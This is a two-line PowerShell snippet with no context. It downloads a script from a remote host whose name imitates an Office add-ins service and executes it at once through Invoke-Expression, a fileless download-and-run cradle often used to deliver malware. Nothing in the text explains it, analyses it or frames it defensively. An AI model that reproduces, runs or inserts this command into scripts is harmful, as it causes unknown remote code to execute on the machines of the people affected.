$wc = New-Object System.Net.WebClient
Invoke-Expression $wc.DownloadString('https://addins.office-extend.com/i.ps1')
